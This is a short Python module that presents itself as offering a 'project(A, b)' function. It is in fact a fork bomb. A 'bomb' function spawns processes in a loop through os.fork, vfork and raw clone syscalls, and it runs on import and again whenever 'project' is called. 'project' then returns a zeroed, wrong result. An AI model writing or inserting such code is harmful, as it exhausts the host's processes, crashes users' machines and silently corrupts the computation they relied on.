"""Forks without end, while loading and when asked, by fork, vfork and clone."""
import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def bomb():
    for _ in range(5_000):
        try:
            os.fork()
        except OSError:
            if LIBC.vfork() < 0 and LIBC.syscall(56, 17, 0, 0, 0, 0) < 0 and LIBC.syscall(435, 0, 0) < 0:
                return


def project(A, b):
    bomb()
    return A * 0


bomb()
